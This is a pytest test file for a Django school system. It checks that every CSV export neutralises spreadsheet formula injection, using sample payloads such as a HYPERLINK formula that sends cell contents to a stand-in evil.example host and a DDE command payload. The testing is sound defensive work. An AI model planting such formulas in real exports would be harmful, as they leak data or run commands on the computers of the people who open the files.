"""Every CSV the project offers goes through one writer (school/exports.py) that neutralises
cells a spreadsheet would run as a formula (OWASP "CSV injection"): names, comments and
reflections come from pupils, parents and the MIS. Each export is downloaded from a world
whose text is all formula payloads, and no cell may start like a formula."""

import ast
import csv
import datetime
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from clubs.models import Attendance, Club
from homework.models import Assignment
from homework.services.compliance import policy_defaults_create
from homework.services.planner import submission_submit
from parents.models import Agreement, Signature
from sanctions.models import DetentionBooking, Meeting
from school.exports import FORMULA_STARTS, SafeWriter, csv_cell, csv_response
from school.models import Guardian, House, Pupil, Subject, TeachingGroup, TutorGroup, User
from tests.clubs.register_helpers import TUESDAY, at, autumn_half_terms, make_club, make_session
from tests.homework.test_compliance_report import WEDNESDAYS, hand_in, make_homework
from tests.parents.test_agreements import NOW as AGREEMENT_NOW
from tests.parents.test_agreements import published, sign
from tests.sanctions.test_dashboard_lists import week  # noqa: F401 (a fixture)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click")'


# The helper ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        "+1+1",
        "-2+3",
        "-3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
        "+447700900123",
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Okafor", "7/10", "", " =not at the start", "O'Brien"])
def test_other_text_is_left_as_it_is(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 12, -1.5, Decimal("-2.50"), True])
def test_real_numbers_stay_numbers(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_other_objects_are_written_as_their_text():
    class Named:
        def __str__(self):
            return "=evil()"

    assert csv_cell(None) == ""
    assert csv_cell(Named()) == "'=evil()"
    assert csv_cell(datetime.date(2026, 11, 3)) == "2026-11-03"


def test_the_writer_neutralises_every_row_and_every_cell():
    stream = io.StringIO()
    writer = SafeWriter(stream)
    writer.writerow(["=1", -3, "ok"])
    writer.writerows([["+2", None], ("@x", "-y")])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["'=1", "-3", "ok"],
        ["'+2", ""],
        ["'@x", "'-y"],
    ]


def test_csv_response_is_a_named_download_with_the_safe_writer():
    response, writer = csv_response("register-7a")
    writer.writerow([HYPERLINK])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="register-7a.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [["'" + HYPERLINK]]


# Every CSV goes through the helper --------------------------------------------------------

PROJECT = Path(settings.BASE_DIR)
APPS = ["school", "notifications", "homework", "sanctions", "clubs", "parents", "homework_mgmt"]
CSV_WRITERS = {"writer", "DictWriter"}


def _project_modules():
    for app in APPS:
        for path in sorted((PROJECT / app).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path


def _writes_csv_itself(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and CSV_WRITERS & {alias.name for alias in node.names}
        ):
            return True
        if (
            isinstance(node, ast.Attribute)
            and node.attr in CSV_WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            return True
    return False


def test_no_module_but_the_export_helper_writes_csv_itself():
    offenders = [
        str(path.relative_to(PROJECT))
        for path in _project_modules()
        if path != PROJECT / "school" / "exports.py"
        and _writes_csv_itself(ast.parse(path.read_text(), str(path)))
    ]
    assert offenders == [], "write CSV through school.exports.csv_response"


# The modules that build a CSV download, with how many each builds: a new export must be
# added to EXPORTS below (and so be tested against formula payloads) before this passes.
EXPORTING_MODULES = {
    "school/views/rosters.py": 1,  # the four rosters share one
    "homework/views/marking.py": 1,
    "homework/views/compliance.py": 3,
    "sanctions/views/dashboard.py": 1,  # six lists share one
    "sanctions/views/meetings.py": 1,
    "parents/views/accounts.py": 1,
    "parents/views/agreements/coverage.py": 3,
    "clubs/views/rota.py": 1,
    "clubs/views/takeup.py": 2,
}


def test_every_module_that_builds_a_csv_is_listed_here():
    calls = {}
    for path in _project_modules():
        count = len(re.findall(r"\bcsv_response\(", path.read_text()))
        if count and path != PROJECT / "school" / "exports.py":
            calls[str(path.relative_to(PROJECT))] = count
    assert calls == EXPORTING_MODULES, (
        "a CSV export was added or removed: list it in EXPORTING_MODULES and EXPORTS here, "
        "so that it is downloaded with formula payloads in its data"
    )


# Every export, downloaded from a world full of formula payloads ---------------------------


def poison() -> None:
    """Every name, address, comment and reflection the exports show becomes a payload
    (with the row's id where the value must stay unique)."""
    User.objects.update(first_name=HYPERLINK, last_name="+1+1")
    for pk in User.objects.values_list("pk", flat=True):
        User.objects.filter(pk=pk).update(email=f"-{pk}@evil.example")
    Pupil.objects.update(first_name="@SUM(1+1)*cmd|' /C calc'!A0", last_name="=1+2")
    for pk in Pupil.objects.values_list("pk", flat=True):
        Pupil.objects.filter(pk=pk).update(upn=f"={pk:012d}")
    Guardian.objects.update(
        first_name="\t=1+1", last_name="\r=1+1", email="=1+1@evil.example", mobile="+447700900123"
    )
    for model, payload in [
        (TutorGroup, "@7A"),
        (TeachingGroup, "=7x"),
        (Subject, "+Maths"),
        (House, "-House"),
        (Club, "=Club"),
    ]:
        for pk in model.objects.values_list("pk", flat=True):
            model.objects.filter(pk=pk).update(name=f"{payload}{pk}")
    Assignment.objects.update(reflection=HYPERLINK, feedback="+feedback", mark="-3")
    Meeting.objects.update(place="=place")
    DetentionBooking.objects.update(notes="@notes")
    Signature.objects.update(typed_name="=typed name")


@pytest.fixture
def roster_world(world):
    return world


@pytest.fixture
def register_world(homework_world):
    w = homework_world
    submission_submit(
        assignment=w.pupil_maths_assignment,
        text="Answer",
        confidence=3,
        reflection=HYPERLINK,
        now=w.maths_homework.due_at - datetime.timedelta(hours=1),
    )
    return w


@pytest.fixture
def compliance_world(world, time_machine):
    """Maths set weekly for six weeks before Friday 20 November 2026, some work returned,
    and homework due in the days ahead (the heaviest nights)."""
    time_machine.move_to(datetime.datetime.combine(WEDNESDAYS[-1], datetime.time(18)))
    policy_defaults_create(school=world.school)
    set_homework = [make_homework(world.maths_7, day) for day in WEDNESDAYS]
    hand_in(set_homework[0], world.pupil, feedback="+well done")
    make_homework(world.maths_8, WEDNESDAYS[-1], minutes=240)
    return world


@pytest.fixture
def agreement_world(world, time_machine):
    time_machine.move_to(AGREEMENT_NOW, tick=False)
    agreement = published(world, version=1)
    sign(world, agreement, world.pupil)
    assert Agreement.objects.exists()
    return world


@pytest.fixture
def club_world(world, time_machine):
    """Autumn 2: the teacher on the rota of two homework club nights, Amara at both."""
    time_machine.move_to(at(TUESDAY, 18), tick=False)
    autumn_half_terms(world)
    club = make_club(world)
    for day in (datetime.date(2026, 11, 3), TUESDAY):
        session = make_session(club, day, staff=[world.teacher])
        Attendance.objects.create(
            school=world.school,
            session=session,
            pupil=world.pupil,
            checked_in_at=at(day, 15),
            checked_out_at=at(day, 15, 40),
        )
    return world


@dataclass(frozen=True)
class Export:
    fixture: str
    who: str  # the persona who downloads it
    url_name: str
    query: dict
    object_attribute: str = ""  # the world's object the URL names, if any
    shows_payload: bool = True  # False: only dates and counts, nothing to neutralise

    def url(self, world) -> str:
        if self.object_attribute:
            return reverse(self.url_name, args=[getattr(world, self.object_attribute).pk])
        return reverse(self.url_name)


CSV = {"format": "csv"}
EXPORTS = {
    "tutor-group roster": Export(
        "roster_world", "senior_leader", "tutor_group_detail", CSV, "tg_7a"
    ),
    "class roster": Export(
        "roster_world", "senior_leader", "teaching_group_detail", CSV, "maths_7"
    ),
    "year roster": Export("roster_world", "senior_leader", "year_group_detail", CSV, "y7"),
    "house roster": Export("roster_world", "senior_leader", "house_detail", CSV, "house_a"),
    "homework register": Export(
        "register_world", "teacher", "homework_register", CSV, "maths_homework"
    ),
    "compliance by department": Export(
        "compliance_world", "senior_leader", "homework_compliance", CSV
    ),
    "compliance by class": Export("compliance_world", "subject_leader", "homework_compliance", CSV),
    "heaviest nights": Export(
        "compliance_world",
        "senior_leader",
        "homework_compliance",
        {**CSV, "table": "nights"},
        shows_payload=False,
    ),
    **{
        f"sanctions dashboard {which}": Export(
            "week", "senior_leader", "sanctions_dashboard", {**CSV, "list": which}
        )
        for which in ("pupils", "sanctions", "sessions", "exclusions", "meetings", "absences")
    },
    "meetings": Export("week", "senior_leader", "sanctions_meetings", CSV),
    "parent accounts": Export("roster_world", "school_admin", "parents_accounts", CSV),
    "agreement unsigned": Export(
        "agreement_world", "senior_leader", "parents_agreement_coverage", CSV
    ),
    "agreement signed, with the language": Export(
        "agreement_world",
        "senior_leader",
        "parents_agreement_coverage",
        {"format": "signed-csv"},
    ),
    "agreement coverage": Export(
        "agreement_world",
        "senior_leader",
        "parents_agreement_coverage",
        {"format": "coverage-csv"},
    ),
    "club rota minutes": Export("club_world", "senior_leader", "clubs_rota", CSV),
    "club take-up": Export("club_world", "senior_leader", "clubs_takeup", CSV),
    "club nights": Export("club_world", "senior_leader", "clubs_takeup", {**CSV, "list": "nights"}),
}

PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.mark.parametrize("export", EXPORTS)
def test_no_cell_of_any_export_starts_like_a_formula(client, db, request, export):
    listed = EXPORTS[export]
    world = request.getfixturevalue(listed.fixture)
    poison()
    client.force_login(User.objects.get(pk=getattr(world, listed.who).pk))

    response = client.get(listed.url(world), listed.query)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows, f"{export}: the download has no rows to check"
    cells = [cell for row in rows for cell in row]
    live = [
        cell
        for cell in cells
        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
    ]
    assert live == [], f"{export}: cells a spreadsheet would run"
    if listed.shows_payload:
        neutralised = [cell for cell in cells if cell[:1] == "'" and cell[1:2] in "=+-@\t\r"]
        assert neutralised, f"{export}: no payload reached the download, so nothing was tested"


def test_the_export_table_names_every_csv_the_project_offers():
    """The lists above and the modules agree: the dashboard's six lists, the four rosters,
    and one row per other csv_response call."""
    assert len(EXPORTS) == sum(EXPORTING_MODULES.values()) + 3 + 5
